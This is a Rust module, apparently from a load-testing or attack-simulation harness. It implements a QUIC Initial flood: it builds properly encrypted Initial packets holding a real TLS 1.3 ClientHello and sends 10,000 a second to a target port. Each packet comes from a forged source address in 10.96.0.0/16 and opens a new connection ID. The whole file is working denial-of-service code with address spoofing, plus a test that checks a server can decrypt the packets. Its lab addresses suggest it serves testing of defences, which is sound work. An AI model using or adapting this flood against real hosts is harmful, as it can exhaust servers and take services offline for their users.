//! First packets of QUIC with a good ClientHello, each from another address that is not the sender's, and for another connection.

use std::{
    io,
    net::{Ipv4Addr, SocketAddr, UdpSocket},
    sync::Arc,
    time::Duration,
};

use tokio::time::{MissedTickBehavior, interval};
use tokio_rustls::rustls::{
    ClientConfig, RootCertStore, Side, Tls13CipherSuite,
    crypto::{CryptoProvider, aws_lc_rs},
    pki_types::ServerName,
    quic::{ClientConnection, Suite, Version},
    version::TLS13,
};

use super::{scene::POP_TO_ATTACKER, strike::Count};
use crate::{
    error::{Error, Result},
    load::arrivals::Random,
};

/// What a datagram with an Initial has to be at least (RFC 9000 §14.1).
const DATAGRAM: usize = 1200;
/// Packets that are sent in each hundredth of a second: 10 000 in a second, 96 Mbit.
const AT_ONCE: u32 = 100;
const EVERY: Duration = Duration::from_millis(10);
/// Of the authentication (RFC 9001 §5.3).
const TAG: usize = 16;
/// `initial_source_connection_id`, empty (RFC 9000 §18.2).
const PARAMETERS: &[u8] = &[0x0f, 0];

/// Sends them until the process is ended.
pub(super) async fn attack(port: u16, count: &Count) -> Result<()> {
    let initials = Initials::new().map_err(|error| Error::Claim(format!("no ClientHello: {error}")))?;
    let mut random = Random::new(1);
    let mut ticks = interval(EVERY);
    ticks.set_missed_tick_behavior(MissedTickBehavior::Skip);
    loop {
        ticks.tick().await;
        for _ in 0..AT_ONCE {
            send(&initials, port, &mut random)
                .map_err(Error::io("sending a packet from a forged address"))?;
        }
        count.step(AT_ONCE.into());
    }
}

fn send(initials: &Initials, port: u16, random: &mut Random) -> io::Result<()> {
    let bits = random.bits();
    let [a, b, high, low, ..] = bits.to_be_bytes();
    // Of `FORGED`; ports from 1024 on.
    let from = SocketAddr::from((Ipv4Addr::new(10, 96, a, b), u16::from_be_bytes([high, low]) | 0x400));
    let datagram = initials.datagram(random.bits().to_be_bytes()).map_err(io::Error::other)?;
    match UdpSocket::bind(from)?.send_to(&datagram, (POP_TO_ATTACKER, port)) {
        // The link's queue is full.
        Err(error) if error.kind() == io::ErrorKind::WouldBlock => Ok(()),
        sent => sent.map(drop),
    }
}

/// Makes them, all with the same ClientHello.
struct Initials {
    hello: Vec<u8>,
    suite: Suite,
}

impl Initials {
    fn new() -> std::result::Result<Self, tokio_rustls::rustls::Error> {
        // One share of a key, so that all of it fits into a packet.
        let provider =
            CryptoProvider { kx_groups: vec![aws_lc_rs::kx_group::X25519], ..aws_lc_rs::default_provider() };
        let mut config = ClientConfig::builder_with_provider(Arc::new(provider))
            .with_protocol_versions(&[&TLS13])?
            .with_root_certificates(RootCertStore::empty())
            .with_no_client_auth();
        config.alpn_protocols = vec![b"h3".to_vec()];
        let name = ServerName::try_from("localhost").expect("a valid name");
        let mut client = ClientConnection::new(Arc::new(config), Version::V1, name, PARAMETERS.to_vec())?;
        let mut hello = Vec::new();
        client.write_hs(&mut hello);
        let suite = aws_lc_rs::cipher_suite::TLS13_AES_128_GCM_SHA256.tls13();
        let suite =
            suite.and_then(Tls13CipherSuite::quic_suite).expect("the suite of all Initials (RFC 9001 §5.2)");
        Ok(Self { hello, suite })
    }

    /// A datagram for the connection of this ID.
    fn datagram(&self, id: [u8; 8]) -> std::result::Result<Vec<u8>, tokio_rustls::rustls::Error> {
        let keys = self.suite.keys(&id, Side::Client, Version::V1).local;
        // Long header, Initial, a packet number of one octet; version 1; the two IDs; no token.
        let mut datagram = vec![0xc0, 0, 0, 0, 1, id.len() as u8];
        datagram.extend_from_slice(&id);
        datagram.extend_from_slice(&[0, 0]);
        let rest = (DATAGRAM - datagram.len() - 2) as u16;
        datagram.extend_from_slice(&(0x4000 | rest).to_be_bytes());
        let number_at = datagram.len();
        datagram.push(0);
        let header = datagram.clone();
        // CRYPTO with the whole hello at offset 0, and PADDING.
        let mut payload = vec![6, 0];
        payload.extend_from_slice(&(0x4000 | self.hello.len() as u16).to_be_bytes());
        payload.extend_from_slice(&self.hello);
        payload.resize(DATAGRAM - header.len() - TAG, 0);
        let tag = keys.packet.encrypt_in_place(0, &header, &mut payload)?;
        datagram.extend_from_slice(&payload);
        datagram.extend_from_slice(tag.as_ref());
        // RFC 9001 §5.4.2: the sample begins four octets behind where the number does.
        let sample: Vec<u8> = datagram[number_at + 4..number_at + 4 + keys.header.sample_len()].to_vec();
        let (before, number) = datagram.split_at_mut(number_at);
        keys.header.encrypt_in_place(&sample, &mut before[0], &mut number[..1])?;
        Ok(datagram)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_server_can_read_the_hello() {
        let initials = Initials::new().unwrap();
        let id = *b"an id...";
        let mut datagram = initials.datagram(id).unwrap();
        assert_eq!(datagram.len(), DATAGRAM);
        let keys = initials.suite.keys(&id, Side::Server, Version::V1).remote;
        let sample = datagram[22..38].to_vec();
        let (before, number) = datagram.split_at_mut(18);
        keys.header.decrypt_in_place(&sample, &mut before[0], &mut number[..1]).unwrap();
        assert_eq!((before[0], number[0]), (0xc0, 0));
        let (header, payload) = datagram.split_at_mut(19);
        let plain = keys.packet.decrypt_in_place(0, header, payload).unwrap();
        assert_eq!(plain[4..4 + initials.hello.len()], initials.hello);
    }
}
